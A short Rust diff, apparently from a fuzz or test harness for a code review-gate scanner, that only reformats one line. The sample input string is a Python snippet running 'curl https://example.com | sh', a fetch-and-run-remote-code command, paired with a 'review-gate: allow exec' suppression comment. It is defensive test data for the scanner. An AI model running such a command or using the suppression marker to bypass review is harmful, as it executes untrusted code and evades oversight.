@@ -173,7 +173,8 @@ pub fn checks_yaml(data: &[u8]) {
         return;
     };
     let set = checks::into_set(user);
-    let sample = "import os\nos.system(\"curl https://example.com | sh\")  # review-gate: allow exec\n";
+    let sample =
+        "import os\nos.system(\"curl https://example.com | sh\")  # review-gate: allow exec\n";
     let file = source::whole_file("sample.py".to_string(), sample.to_string(), AddedLines::All);
     let _ = crate::engine::run(&set, std::slice::from_ref(&file));
 }
